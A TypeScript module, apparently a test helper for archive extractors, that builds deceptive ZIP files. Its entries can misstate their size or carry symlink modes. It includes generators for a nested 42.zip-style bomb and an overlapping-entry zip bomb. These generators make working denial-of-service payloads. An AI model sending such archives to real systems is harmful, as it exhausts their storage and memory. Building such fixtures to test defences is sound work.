import { deflateRawSync } from 'node:zlib';
import { crc32 } from '@node-rs/crc32';

export type ZipEntry = {
  name: string;
  content?: string | Buffer;
  /** As a Unix host writes it: 0o100644 for a file, 0o120777 for a link. */
  mode?: number;
  /** What the table says of its size, whatever is true. */
  claimed?: number;
  encrypted?: boolean;
};

/** A zip with these entries, which may lie about themselves (APPNOTE 6.3). */
export function zipOf(entries: readonly ZipEntry[]): Buffer {
  const bodies: Buffer[] = [];
  const table: Buffer[] = [];
  let offset = 0;
  for (const { name, content = '', mode = 0o100644, claimed, encrypted = false } of entries) {
    const bytes = Buffer.from(content);
    const packed = deflateRawSync(bytes);
    const path = Buffer.from(name);
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt16LE(encrypted ? 0x801 : 0x800, 2);
    shared.writeUInt16LE(8, 4);
    shared.writeUInt32LE(crc32(bytes), 10);
    shared.writeUInt32LE(packed.length, 14);
    shared.writeUInt32LE(claimed ?? bytes.length, 18);
    shared.writeUInt16LE(path.length, 22);
    const body = Buffer.concat([Buffer.from('PK\x03\x04'), shared, path, packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE((mode << 16) >>> 0, 6);
    tail.writeUInt32LE(offset, 10);
    const madeBy = Buffer.from([63, 3]);
    table.push(Buffer.concat([Buffer.from('PK\x01\x02'), madeBy, shared, tail, path]));
    bodies.push(body);
    offset += body.length;
  }
  const directory = Buffer.concat(table);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...bodies, directory, Buffer.from('PK\x05\x06'), end]);
}

/** A bomb like 42.zip: archives in archives, each small, and more than any disk has once all of them are unpacked. */
export function nestedBomb(levels: number, leaf = Buffer.alloc(8 * 1024 ** 2)): Buffer {
  const names = Array.from({ length: 16 }, (_, number) => `lib ${number.toString(16)}.zip`);
  let zip = zipOf([{ name: '0.dll', content: leaf }]);
  for (let level = 0; level < levels; level += 1) zip = zipOf(names.map((name) => ({ name, content: zip })));
  return zip;
}

/** A bomb whose table names the bytes of one entry many times, so that a small archive claims to be a large one. */
export function overlappingBomb(count: number, content: Buffer, claimed = content.length): Buffer {
  const name = (number: number) => `${String(number).padStart(8, '0')}.bin`;
  const zip = zipOf([{ name: name(0), content, claimed }]);
  const at = zip.readUInt32LE(zip.length - 6);
  const row = zip.subarray(at, zip.length - 22);
  const rows = Array.from({ length: count }, (_, number) => {
    const named = Buffer.from(row);
    named.write(name(number), 46);
    return named;
  });
  const end = Buffer.from(zip.subarray(zip.length - 22));
  for (const place of [8, 10]) end.writeUInt16LE(count, place);
  end.writeUInt32LE(count * row.length, 12);
  return Buffer.concat([zip.subarray(0, at), ...rows, end]);
}
